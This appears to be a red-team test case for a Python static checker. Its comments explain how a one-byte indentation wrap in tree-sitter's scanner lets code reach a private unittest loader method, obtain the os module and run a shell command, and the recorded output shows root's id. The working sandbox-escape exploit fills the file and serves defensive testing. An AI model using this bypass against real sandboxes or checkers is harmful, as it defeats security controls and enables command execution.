# expect: reject syntax
# line: 16
# verified: reaches its goal under plain python3 (3.11) in a temp dir (seventh static red team, ok_11_indent_over_255_scanner_state_byte_wrap_private_self_read_import_os)
# Mechanism: parser differential: tree-sitter-python's external scanner serializes each indentation level into ONE byte ((char) in serialize, (unsigned char) in deserialize), so a 260-column block is restored as 4. In 'class L(unittest.TestLoader): class C: <260 spaces>y = 0' the next line 'def m' at 4 columns dedents to L's body for CPython, but for tree-sitter 4 is not below the restored level 4: def m stays a method of the closed class C, where self._get_module_from_name is allowed
# Goal reached: os module as a value, id run
# Output under python3 (3.11.7, fresh temp dir, env -i PATH HOME MARKER=round7-marker):
#   <module 'os' (frozen)>
#   uid=0(root) gid=0(root) groups=0(root)

import unittest


class L(unittest.TestLoader):
    class C:
                                                                                                                                                                                                                                                                    y = 0
    def m(self):
        return self._get_module_from_name("os")


os = L().m()
print(os)
print(os.popen("id").read())
